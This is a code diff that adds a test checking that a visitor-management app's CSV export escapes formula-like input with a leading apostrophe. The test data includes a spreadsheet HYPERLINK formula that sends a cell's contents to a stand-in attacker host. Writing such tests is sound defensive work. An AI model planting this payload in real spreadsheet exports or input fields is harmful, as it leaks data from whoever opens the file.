@@ -512,6 +512,37 @@ describe('lists, autocomplete and export', () => {
     expect(lines[1]).toContain('Back gate');
   });
 
+  it('exports visitor texts that look like formulas as text (a leading apostrophe), ids as numbers', async () => {
+    const siteId = await ctx.createSite('CSV formulas');
+    const csvSite = await givenVisitSite(ctx, siteId);
+    const clerk = await ctx.givenUser({ roles: ['VISIT_USER', 'VIEW_PERSONAL_INFO'], sites: [siteId] });
+    const entry = await enter(
+      ctx,
+      clerk,
+      visitor(csvSite, {
+        firstName: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+        lastName: '+420 777 123 456',
+        company: '@SUM(1+1)',
+        note: '-2+3',
+        parkingPlace: '=1+1',
+      }),
+    );
+    expect(entry.statusCode).toBe(201);
+    const response = await ctx.call(clerk, 'GET', '/api/visit/export');
+    expect(response.statusCode).toBe(200);
+    const [header, row] = response.body.replace(/^\uFEFF/, '').split('\r\n');
+    const column = (name: string) => header.split(',').indexOf(name);
+    expect(row.startsWith(`${entry.json().id},`)).toBe(true);
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
+    const cells = row.replace(/"[^"]*(?:""[^"]*)*"/g, 'QUOTED').split(',');
+    expect(cells[column('lastName')]).toBe("'+420 777 123 456");
+    expect(cells[column('company')]).toBe("'@SUM(1+1)");
+    expect(cells[column('note')]).toBe("'-2+3");
+    expect(cells[column('parkingPlace')]).toBe("'=1+1");
+    // No cell of the export starts with a formula character.
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
   it('updates the recorded details but not the movement', async () => {
     const [row] = (await ctx.call(guard, 'GET', '/api/visit?size=10')).json();
     const update = await ctx.call(guard, 'PUT', `/api/visit/${row.id}`, {
